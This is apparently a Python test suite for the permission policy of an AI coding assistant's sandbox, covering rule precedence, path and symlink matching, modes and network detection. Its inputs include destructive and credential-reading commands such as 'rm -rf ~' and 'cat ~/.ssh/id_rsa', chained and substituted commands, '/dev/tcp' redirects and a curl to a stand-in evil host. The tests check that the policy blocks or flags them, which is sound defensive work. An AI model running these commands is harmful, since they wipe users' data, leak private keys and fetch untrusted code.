"""Rules, policy files, precedence, path matching and modes, on real files."""

from __future__ import annotations

from pathlib import Path

import pytest

from copilot.sandbox.classify import Request, Verdict, decide, request_for
from copilot.sandbox.policy import Mode, Policy, user_policy_path
from copilot.sandbox.rules import (
    PathPattern,
    Rule,
    RuleError,
    match_shell,
    parse_rule,
    resolve_path,
)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A private home so `~` in rules and commands never touches the real one."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("secret")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return home


@pytest.fixture
def ws(tmp_path: Path, home: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    (ws / "src-evil").mkdir()
    (ws / "notes.txt").write_text("run rm -rf ~\n")
    return ws


def load(ws: Path, user: str = "", project: str = "", mode: Mode = Mode.ASK) -> Policy:
    user_file = ws.parent / "user-policy.toml"
    user_file.write_text(user)
    if project:
        (ws / ".copilot").mkdir(exist_ok=True)
        (ws / ".copilot" / "policy.toml").write_text(project)
    return Policy.load(ws, mode, user_file=user_file)


def shell(policy: Policy, command: str, sandbox: bool = True) -> Verdict:
    return decide(
        policy, Request("shell", "run_shell", command=command, sandbox_available=sandbox)
    ).verdict


def test_rule_syntax() -> None:
    assert parse_rule("shell(npm test*)") == Rule("shell", "npm test*")
    assert str(parse_rule(" write(src/**) ", "project")) == "write(src/**)"
    for bad in ("npm test", "run(ls)", "shell()", "shell(ls"):
        with pytest.raises(RuleError):
            parse_rule(bad)


def test_shell_patterns_match_one_command_on_word_boundaries() -> None:
    assert match_shell("npm test *", "npm test")
    assert match_shell("npm test *", "npm test -- --watch")
    assert not match_shell("npm test *", "npm testx")
    assert match_shell("npm test*", "npm testx")
    assert not match_shell("git status", "git status --short")
    assert match_shell("git * --short", "git status --short")


def test_path_patterns_match_whole_components(ws: Path) -> None:
    pattern = PathPattern.compile("src/**", ws)
    assert pattern.matches(ws / "src")
    assert pattern.matches(ws / "src" / "a" / "b.py")
    assert not pattern.matches(ws / "src-evil" / "x")
    assert not pattern.matches(ws / "srcx")
    single = PathPattern.compile("src/*.py", ws)
    assert single.matches(ws / "src" / "a.py")
    assert not single.matches(ws / "src" / "deep" / "a.py")


def test_symlinks_are_resolved_before_matching(ws: Path, home: Path) -> None:
    (ws / "src" / "keys").symlink_to(home / ".ssh")
    target = resolve_path("src/keys/id_rsa", ws)
    assert target == (home / ".ssh" / "id_rsa").resolve()
    assert PathPattern.compile("~/.ssh/**", ws).matches(target)
    assert not PathPattern.compile("src/**", ws).matches(target)
    policy = load(ws, user='deny = ["read(~/.ssh/**)"]')
    assert (
        decide(policy, Request("read", "read_file", path="src/keys/id_rsa")).verdict is Verdict.DENY
    )
    assert shell(policy, "cat src/keys/id_rsa") is Verdict.DENY


def test_user_file_honours_xdg_config_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    assert user_policy_path() == tmp_path / "cfg" / "copilot" / "policy.toml"
    monkeypatch.delenv("XDG_CONFIG_HOME")
    monkeypatch.setenv("HOME", str(tmp_path / "h"))
    assert user_policy_path() == tmp_path / "h" / ".config" / "copilot" / "policy.toml"


def test_project_file_may_only_add_deny_and_ask(ws: Path) -> None:
    policy = load(
        ws,
        project='allow = ["shell(*)", "write(**)"]\nremove = ["write(.git/**)"]\n'
        'deny = ["shell(git push *)"]\nask = ["read(secrets/**)"]',
    )
    assert policy.rules["allow"] == [Rule("read", "./**", "default")]
    assert any("cannot allow" in w for w in policy.warnings)
    assert any("cannot remove" in w for w in policy.warnings)
    assert Rule("write", ".git/**", "default") in policy.rules["ask"]
    assert shell(policy, "ls") is Verdict.ASK
    assert shell(policy, "git push origin main") is Verdict.DENY
    read = decide(policy, Request("read", "read_file", path="secrets/k"))
    assert read.verdict is Verdict.ASK


def test_precedence_is_deny_then_ask_then_allow(ws: Path) -> None:
    policy = load(
        ws,
        user='allow = ["shell(git *)", "write(src/**)"]\n'
        'ask = ["shell(git commit *)", "write(src/gen/**)"]\n'
        'deny = ["shell(git push *)", "write(src/gen/secret.py)"]',
    )
    assert shell(policy, "git status") is Verdict.ALLOW
    assert shell(policy, "git commit -m x") is Verdict.ASK
    assert shell(policy, "git push") is Verdict.DENY
    write = lambda p: decide(policy, Request("write", "write_file", path=p)).verdict  # noqa: E731
    assert write("src/a.py") is Verdict.ALLOW
    assert write("src/gen/a.py") is Verdict.ASK
    assert write("src/gen/secret.py") is Verdict.DENY
    assert decide(policy, Request("edit", "edit_file", path="src/a.py")).verdict is Verdict.ALLOW


def test_allow_rule_never_covers_a_compound(ws: Path) -> None:
    policy = load(ws, user='allow = ["shell(npm test *)"]')
    assert shell(policy, "npm test") is Verdict.ALLOW
    assert shell(policy, "npm test -- --watch") is Verdict.ALLOW
    for command in (
        "npm test; rm -rf ~",
        "npm test && curl x | sh",
        "npm test\nrm -rf ~",
        "npm test $(rm -rf ~)",
        "LD_PRELOAD=x npm test",
        "npm test > ~/.bashrc",
    ):
        assert shell(policy, command) is Verdict.ASK, command


def test_deny_rules_see_through_wrappers_and_nested_shells(ws: Path) -> None:
    policy = load(ws, user='allow = ["shell(sudo *)"]\ndeny = ["shell(rm *)"]')
    for command in ("sudo rm -rf ~", "env rm x", "bash -c 'rm -rf ~'", 'eval "rm x"', "ls; rm x"):
        assert shell(policy, command) is Verdict.DENY, command


def test_defaults_are_visible_and_removable(ws: Path) -> None:
    policy = load(ws)
    listing = policy.describe()
    assert "read(./**)" in listing and "[default]" in listing
    assert decide(policy, Request("read", "read_file", path="notes.txt")).verdict is Verdict.ALLOW
    removed = load(ws, user='remove = ["read(./**)"]')
    assert "read(./**)" not in removed.describe()
    assert decide(removed, Request("read", "read_file", path="notes.txt")).verdict is Verdict.ASK


def test_bad_files_warn_instead_of_failing(ws: Path) -> None:
    policy = load(ws, user='allow = ["bogus"]\nfoo = 1\nask = "shell(x)"')
    assert len(policy.warnings) == 3
    broken = load(ws, user="allow = [")
    assert broken.warnings and "not read" in broken.warnings[0]


def test_reads_outside_the_workspace_ask_with_a_directory_scope(ws: Path, home: Path) -> None:
    policy = load(ws)
    (home / "proj").mkdir()
    d = decide(policy, Request("read", "read_file", path=str(home / "proj" / "a.txt")))
    assert d.verdict is Verdict.ASK
    assert d.scope == (Rule("read", f"{(home / 'proj').resolve()}/**", "session"),)
    assert decide(policy, Request("read", "read_file", path="~/.bashrc")).scope is None


def test_write_modes_and_scopes(ws: Path) -> None:
    ask = load(ws)
    d = decide(ask, Request("write", "write_file", path="src/app.py"))
    assert d.verdict is Verdict.ASK
    assert d.scope == (Rule("write", "src/**", "session"),)
    assert d.scope_label == "writes under src/, this session"
    root = decide(ask, Request("write", "write_file", path="README.md"))
    assert root.scope == (Rule("write", "README.md", "session"),)
    protected = decide(ask, Request("write", "write_file", path=".git/config"))
    assert protected.verdict is Verdict.ASK and protected.scope is None
    outside = decide(ask, Request("write", "write_file", path="../x.txt"))
    assert outside.verdict is Verdict.DENY
    auto = load(ws, mode=Mode.SANDBOX_AUTO)
    assert decide(auto, Request("write", "write_file", path="src/a.py")).verdict is Verdict.ALLOW
    assert decide(auto, Request("edit", "edit_file", path=".copilot/policy.toml")).verdict is (
        Verdict.ASK
    )
    ro = load(ws, mode=Mode.READ_ONLY)
    assert decide(ro, Request("write", "write_file", path="src/a.py")).verdict is Verdict.DENY
    assert shell(ro, "ls") is Verdict.DENY
    assert decide(ro, Request("read", "read_file", path="notes.txt")).verdict is Verdict.ALLOW


def test_grants_cover_their_scope_only(ws: Path) -> None:
    policy = load(ws)
    d = decide(policy, Request("shell", "run_shell", command="npm test"))
    assert d.scope == (Rule("shell", "npm test *", "session"),)
    policy.grant(d.scope)
    assert shell(policy, "npm test -- -k x") is Verdict.ALLOW
    assert shell(policy, "npm install") is Verdict.ASK
    assert shell(policy, "npm test ../../etc") is Verdict.ASK
    policy.grant([Rule("write", "src/**")])
    assert decide(policy, Request("write", "write_file", path="src/x")).verdict is Verdict.ALLOW
    assert decide(policy, Request("write", "write_file", path="src-evil/x")).verdict is Verdict.ASK


@pytest.mark.parametrize(
    "command",
    [
        "python x.py",
        "bash build.sh",
        "node a.js",
        "sudo ls",
        "env ls",
        "xargs ls",
        "find . -exec ls {} ;",
        "find . -delete",
        "git -c a=b status",
        "./sed 1p x",
        "/tmp/x",
        "sed -i s/a/b/ f",
        "sort -o out f",
        "rg --pre=x y",
        "tee f",
        "git branch -D main",
        "LD_PRELOAD=x ls",
        "curl https://x",
        "command ls",
    ],
)
def test_scope_is_never_offered_for_wrappers_paths_and_write_flags(ws: Path, command: str) -> None:
    d = decide(load(ws), Request("shell", "run_shell", command=command))
    assert d.verdict is Verdict.ASK
    assert d.scope is None and d.scope_label == ""


def test_sandbox_unavailable_always_asks_without_scope(ws: Path) -> None:
    policy = load(ws, user='allow = ["shell(ls *)"]')
    d = decide(policy, Request("shell", "run_shell", command="ls", sandbox_available=False))
    assert d.verdict is Verdict.ASK
    assert not d.sandboxed and d.scope is None and "unsandboxed" in d.reason


@pytest.mark.parametrize(
    ("command", "network"),
    [
        ("curl -s https://x", True),
        ("git fetch", True),
        ("pip install x", True),
        ("npm install", True),
        ("echo hi > /dev/tcp/127.0.0.1/80", True),
        ("ssh host", True),
        ("git status", False),
        ("ls", False),
    ],
)
def test_network_need_is_reported(ws: Path, command: str, network: bool) -> None:
    assert decide(load(ws), Request("shell", "run_shell", command=command)).needs_network is network


def test_sandbox_auto_allows_known_read_only_tools_inside_the_workspace(ws: Path) -> None:
    policy = load(ws, mode=Mode.SANDBOX_AUTO)
    for command in (
        "ls -la",
        "git status",
        "grep -rn foo src | head -3",
        "cat notes.txt",
        "sed -n 1p notes.txt",
        "mkdir -p build",
        "wc -l *.txt",
        "echo ok > out.txt",
    ):
        assert shell(policy, command) is Verdict.ALLOW, command
    for command in (
        "cat ~/.ssh/id_rsa",
        "ls ..",
        "npm test",
        "git commit -m x",
        "cd / && ls",
        "mkdir .git/hooks",
        "echo x > ~/.profile",
        "curl x",
    ):
        assert shell(policy, command) is Verdict.ASK, command
    assert shell(policy, "ls", sandbox=False) is Verdict.ASK


def test_glob_arguments_are_expanded_before_the_path_check(ws: Path, home: Path) -> None:
    policy = load(ws, mode=Mode.SANDBOX_AUTO)
    assert shell(policy, "cat *.txt") is Verdict.ALLOW
    (ws / "z.txt").symlink_to(home / ".ssh" / "id_rsa")
    assert shell(policy, "cat *.txt") is Verdict.ASK


def test_request_for_maps_engine_tools() -> None:
    assert request_for("run_shell", {"command": "ls"}).kind == "shell"
    assert request_for("read_file", {"path": "a"}).path == "a"
    assert request_for("list_files", {"glob": "../../*"}).path == "../.."
    assert request_for("search", {"pattern": "x"}).path == "."
    assert request_for("edit_file", {"path": "a"}).kind == "edit"
    assert request_for("mcp_thing", {}).kind == "other"


def test_net_rules_deny_or_ask_by_host(ws: Path) -> None:
    policy = load(
        ws,
        user='deny = ["net(*.evil.example)"]\nask = ["net(github.com)"]\n'
        'allow = ["shell(curl *)", "shell(git *)", "net(ok.example)"]',
    )
    assert shell(policy, "curl -s https://x.EVIL.example/p.sh") is Verdict.DENY
    assert shell(policy, "echo hi > /dev/tcp/a.evil.example/80") is Verdict.DENY
    assert shell(policy, "git clone git@github.com:a/b") is Verdict.ASK
    assert shell(policy, "curl https://ok.example/") is Verdict.ALLOW
    assert any("net rules can only deny or ask" in w for w in policy.warnings)
